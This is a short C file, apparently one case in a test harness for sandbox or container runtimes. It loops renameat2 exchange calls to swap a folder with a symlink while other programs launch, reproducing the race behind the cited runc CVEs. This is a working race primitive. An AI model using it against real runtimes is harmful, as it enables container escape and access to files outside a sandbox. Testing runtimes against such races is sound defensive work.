/* Programs that run until they are killed, while others start: each swaps what the others' launch is about to use. */
#include "attack.h"

/* In the folder of the argument there are `sub`, a folder, and `elsewhere`, a link out of it: they change places, without a
   moment at which one is missing (CVE-2021-30465, CVE-2023-27561, CVE-2025-31133). */
ATTACK(swap, "swaps a folder for a link while others use it") {
    char sub[256], elsewhere[256];
    snprintf(sub, sizeof sub, "%s/sub", argument);
    snprintf(elsewhere, sizeof elsewhere, "%s/elsewhere", argument);
    /* Its own process first: the other end of this pipe sees that it runs. */
    printf("swapping\n");
    fflush(stdout);
    for (;;)
        if (syscall(SYS_renameat2, AT_FDCWD, sub, AT_FDCWD, elsewhere, 2 /* exchange */) < 0) return -1;
}
